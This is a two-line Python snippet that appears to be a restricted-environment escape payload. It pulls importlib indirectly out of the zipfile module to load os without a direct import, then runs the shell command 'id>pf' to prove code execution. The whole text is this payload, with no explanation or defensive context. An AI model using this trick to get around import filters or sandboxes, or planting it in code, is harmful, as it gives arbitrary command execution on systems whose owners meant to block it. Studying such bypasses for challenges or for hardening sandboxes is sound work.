from zipfile import importlib as i
i.import_module("os").system("id>pf")
